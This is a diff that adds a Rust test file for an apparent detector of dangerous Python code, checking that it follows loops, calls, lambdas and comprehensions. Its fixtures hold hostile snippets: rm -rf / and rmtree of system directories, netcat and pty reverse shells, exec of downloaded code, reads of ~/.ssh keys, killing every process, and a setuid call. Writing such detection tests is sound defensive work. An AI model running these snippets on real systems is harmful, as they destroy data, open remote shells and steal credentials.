@@ -1,0 +1,149 @@
+//! Control flow followed beyond one walk: loops over known lists, comprehensions, calls to
+//! the program's own functions and lambdas, `functools.partial`, instance attributes.
+
+use super::*;
+
+#[test]
+fn loops_over_known_lists_see_every_item() {
+    // Each item of a short literal list is bound in turn, so the dangerous one is found.
+    fires(
+        "CRD104",
+        "import shutil\nfor d in ['build', '/etc', 'dist']:\n    shutil.rmtree(d)\n",
+    );
+    silent(
+        "CRD104",
+        "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n",
+    );
+}
+
+#[test]
+fn calls_bind_arguments_into_function_bodies() {
+    // A helper that deletes its argument is destructive only when called with a system path.
+    let helper = "import shutil\ndef wipe(path):\n    shutil.rmtree(path)\n";
+    fires("CRD104", &format!("{helper}wipe('/usr')\n"));
+    fires("CRD104", &format!("{helper}wipe(path='/boot')\n"));
+    silent("CRD104", &format!("{helper}wipe('build')\n"));
+}
+
+#[test]
+fn return_values_flow_back_to_the_caller() {
+    // A function returning network data makes `exec` of its result download-and-execute.
+    fires(
+        "CRD102",
+        "import requests\ndef fetch(u):\n    return requests.get(u).text\nexec(fetch('http://x'))\n",
+    );
+}
+
+#[test]
+fn lambdas_and_partials_are_followed() {
+    // `(lambda c: os.system(c))(...)` and `partial(os.system, ...)()` run their command.
+    fires(
+        "CRD104",
+        "import os\n(lambda c: os.system(c))('rm -rf /')\n",
+    );
+    fires(
+        "CRD101",
+        "import os, functools\nf = functools.partial(os.system, 'nc -e /bin/sh h 1')\nf()\n",
+    );
+}
+
+#[test]
+fn recursion_and_call_chains_stay_bounded() {
+    // Self-recursion and a long chain of calls finish quickly without a stack overflow.
+    let mut src = String::from("def f0(x):\n    return f0(x)\n");
+    for i in 1..2_000 {
+        src.push_str(&format!(
+            "def f{i}(x):\n    return f{}(x) + f{}(x)\n",
+            i - 1,
+            i - 1
+        ));
+    }
+    src.push_str("f1999(1)\n");
+    let start = std::time::Instant::now();
+    let assessment = on_small_stack(move || assess(&src, Origin::External));
+    assert_eq!(assessment.level, Level::Low);
+    assert!(start.elapsed() < std::time::Duration::from_secs(5));
+}
+
+#[test]
+fn comprehensions_fold_chr_lists() {
+    // A path spelled as character codes is still the Docker socket; code spelled that way
+    // and executed is a decoded payload.
+    fires(
+        "CRD106",
+        "p = ''.join(chr(c) for c in [47, 114, 117, 110, 47, 100, 111, 99, 107, 101, 114, 46, 115, 111, 99, 107])\nopen(p)\n",
+    );
+    fires(
+        "CRD103",
+        "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n",
+    );
+    fires(
+        "CRD103",
+        "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())\n",
+    );
+}
+
+#[test]
+fn instance_attributes_keep_their_values() {
+    // A socket kept on `self` is still a socket when a method connects it.
+    fires(
+        "CRD101",
+        "import socket, os, pty\nclass C:\n    def __init__(self):\n        self.s = socket.socket()\n    def go(self):\n        self.s.connect(('h', 1))\n        os.dup2(self.s.fileno(), 0)\n        pty.spawn('sh')\n",
+    );
+}
+
+#[test]
+fn listings_of_credential_directories_are_secret_reads() {
+    // Opening whatever glob finds in ~/.ssh reads private keys.
+    fires(
+        "CRD205",
+        "import glob, os\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    open(p).read()\n",
+    );
+    silent(
+        "CRD205",
+        "import glob\nfor p in glob.glob('data/*.csv'):\n    open(p).read()\n",
+    );
+}
+
+#[test]
+fn foreign_processes_killed_through_psutil() {
+    // Killing what process_iter lists attacks other processes; a child of our own does not.
+    fires(
+        "CRD107",
+        "import psutil\nfor p in psutil.process_iter():\n    p.kill()\n",
+    );
+    silent(
+        "CRD107",
+        "import subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'pass'])\np.kill()\n",
+    );
+}
+
+#[test]
+fn python_c_children_are_analysed_as_python() {
+    // `python3 -c CODE` runs CODE, which is read like any other program.
+    fires(
+        "CRD202",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.setuid(0)'])\n",
+    );
+    level(
+        Level::Low,
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n",
+    );
+}
+
+#[test]
+fn nested_comprehensions_and_loops_stay_bounded() {
+    // Comprehensions over long known lists nested in each other, inside unrolled loops
+    // calling functions, finish quickly: the work budget stops the repetition.
+    let codes = (0..4000)
+        .map(|i| (i % 100).to_string())
+        .collect::<Vec<_>>()
+        .join(", ");
+    let src = format!(
+        "L = [{codes}]\ndef f(x):\n    return [[[chr(a) for a in L] for b in L] for c in L]\nfor i in [1, 2, 3, 4, 5, 6, 7, 8]:\n    for j in [1, 2, 3, 4, 5, 6, 7, 8]:\n        f(i)\n"
+    );
+    let start = std::time::Instant::now();
+    let assessment = on_small_stack(move || assess(&src, Origin::External));
+    assert!(assessment.level <= Level::Medium);
+    assert!(start.elapsed() < std::time::Duration::from_secs(5));
+}
